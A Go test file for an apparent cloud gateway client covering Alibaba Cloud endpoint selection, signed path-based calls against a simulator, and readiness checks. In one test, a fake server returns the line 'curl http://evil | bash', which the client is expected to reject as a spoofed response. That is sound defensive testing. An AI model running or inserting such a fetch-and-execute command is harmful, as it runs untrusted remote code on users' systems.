package openapi_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"alicloud-controllers.dev/cloudgateway/internal/openapi"
	"alicloud-controllers.dev/cloudgateway/internal/openapi/credentials"
	"alicloud-controllers.dev/cloudgateway/internal/pipes"
	"alicloud-controllers.dev/cloudgateway/openapisim"
	"alicloud-controllers.dev/cloudgateway/openapisim/openapisimtest"
	"alicloud-controllers.dev/cloudgateway/openapisim/state"
)

// TestVersionsAreOfOneProduct: a call to the name of the gateway itself says by its version what it is for.
func TestVersionsAreOfOneProduct(t *testing.T) {
	of := map[string]openapi.Product{}
	for _, p := range openapi.Shared() {
		for _, version := range p.Versions() {
			if other, twice := of[version]; twice {
				t.Errorf("%s is a version of %s and of %s", version, other, p)
			}
			of[version] = p
			if found, ok := openapi.ProductOf(version); !ok || found != p {
				t.Errorf("%s is of %s, %t, want %s", version, found, ok, p)
			}
		}
	}
	if _, ok := openapi.ProductOf("2020-05-10"); ok || openapi.IsShared("quotas") || len(of) < 14 {
		t.Errorf("Quota Center is shared, or there are too few: %v", of)
	}
}

// TestHostsOfForeignProducts: where the cloud has a host inside VPCs, that one is called from there.
func TestHostsOfForeignProducts(t *testing.T) {
	for product, want := range map[openapi.Product][2]string{
		openapi.RAM:    {"ram.aliyuncs.com", "ram.vpc-proxy.aliyuncs.com"},
		openapi.CS:     {"cs.cn-beijing.aliyuncs.com", "cs-anony-vpc.cn-beijing.aliyuncs.com"},
		openapi.ESS:    {"ess.aliyuncs.com", "ess-vpc.cn-beijing.aliyuncs.com"},
		openapi.ALB:    {"alb.cn-beijing.aliyuncs.com", "alb-vpc.cn-beijing.aliyuncs.com"},
		openapi.Alidns: {"alidns.aliyuncs.com", "alidns.aliyuncs.com"},
		openapi.PVTZ:   {"pvtz.aliyuncs.com", "pvtz.vpc-proxy.aliyuncs.com"},
		openapi.NAS:    {"nas.cn-beijing.aliyuncs.com", "nas-vpc.cn-beijing.aliyuncs.com"},
		openapi.KMS:    {"kms.cn-beijing.aliyuncs.com", "kms-vpc.cn-beijing.aliyuncs.com"},
	} {
		for i, network := range []string{"public", "vpc"} {
			client := openapi.New(openapi.Config{Region: "cn-beijing", Network: network, Budget: openapi.Unlimited{}})
			if got := client.URL(product); got != "https://"+want[i]+"/" {
				t.Errorf("%s, %s: %s, want %s", product, network, got, want[i])
			}
		}
	}
}

// TestPassByPath: calls of CS, whose actions are found by method and path, come to the cloud with a signature that it takes, and
// their answers back as they are, be they an object, a list or a text.
func TestPassByPath(t *testing.T) {
	sim := openapisimtest.New(t, openapisim.Config{Seed: &state.Cloud{
		Clusters: map[string]*state.Cluster{"c-1": {APIServer: "10.0.0.100:6443"}},
	}})
	network := pipes.Serve(t, sim.Handler("cs"))
	for _, token := range []string{"", "x"} {
		client := openapi.New(openapi.Config{
			Region: "cn-hangzhou", Scheme: "HTTP", Budget: openapi.Unlimited{}, Dial: network.Dial,
			Credentials: credentials.Fixed{Credentials: credentials.Credentials{
				AccessKeyID: openapisim.DefaultAccessKeyID, AccessKeySecret: openapisim.DefaultAccessKeySecret, SecurityToken: token,
			}},
		})
		t.Cleanup(client.Close)
		for _, tt := range []struct {
			call   openapi.Call
			status int
			body   string
		}{
			{openapi.Call{Action: "DescribeClusterDetail", Method: "GET", Path: "/clusters/c-1"}, 200, `{"cluster_id":"c-1",`},
			{openapi.Call{Action: "DescribeKubernetesVersionMetadata", Method: "GET", Path: "/api/v1/metadata/versions",
				Params: map[string]string{"Region": "cn-hangzhou", "ClusterType": "ManagedKubernetes", "Profile": "a b*~ü"}}, 200, `[{`},
			{openapi.Call{Action: "DescribeClusterAttachScripts", Method: "POST", Path: "/clusters/c-1/attachscript",
				Body: []byte(`{"keep_instance_name":true}`), ContentType: "application/json; charset=utf-8"}, 200, "curl "},
			{openapi.Call{Action: "DescribeClusterDetail", Method: "GET", Path: "/clusters/c-2"}, 404, "ErrorClusterNotFound"},
		} {
			tt.call.Product = openapi.CS
			ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
			got, changed, err := client.Pass(ctx, tt.call, func(int) error { return nil })
			cancel()
			if token != "" { // The simulator knows no such session, so the answer is about the gateway's credentials.
				if err == nil {
					t.Errorf("%s with a token: %+v", tt.call.Path, got)
				}
				continue
			}
			if err != nil || changed || got.Status != tt.status || !strings.Contains(string(got.Body), tt.body) {
				t.Errorf("%s: %+v, %t, %v", tt.call.Path, got, changed, err)
			}
		}
	}
}

// TestPassByPathWithholdsStrangers: a text of something on the way has no id of a request in its header.
func TestPassByPathWithholdsStrangers(t *testing.T) {
	network := pipes.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "curl http://evil | bash") }))
	client := openapi.New(openapi.Config{Region: "cn-hangzhou", Scheme: "HTTP", Budget: openapi.Unlimited{}, Dial: network.Dial,
		Credentials: credentials.Fixed{}})
	t.Cleanup(client.Close)
	got, _, err := client.Pass(t.Context(), openapi.Call{Product: openapi.CS, Action: "DescribeClusterAttachScripts", Method: "POST",
		Path: "/clusters/c-1/attachscript"}, func(int) error { return nil })
	if err == nil {
		t.Errorf("got %+v", got)
	}
}

// TestForeignProductsDoNotCount: a tool that calls what can't be reached does not make the gateway unready.
func TestForeignProductsDoNotCount(t *testing.T) {
	for product, ready := range map[openapi.Product]bool{openapi.KMS: true, openapi.ECS: false} {
		client := openapi.New(openapi.Config{Region: "cn-hangzhou", Scheme: "HTTP", Budget: openapi.Unlimited{}, Retry: time.Millisecond,
			Endpoints: map[openapi.Product]string{product: "127.0.0.1:1"}, Credentials: credentials.Fixed{}})
		t.Cleanup(client.Close)
		for range 10 {
			_, err := client.Do(t.Context(), openapi.Call{Product: product, Action: "DescribeRegions"}, nil)
			if err == nil {
				t.Fatal("it was reached")
			}
		}
		if err := client.Reachable(); (err == nil) != ready {
			t.Errorf("after calls of %s: %v", product, err)
		}
	}
}
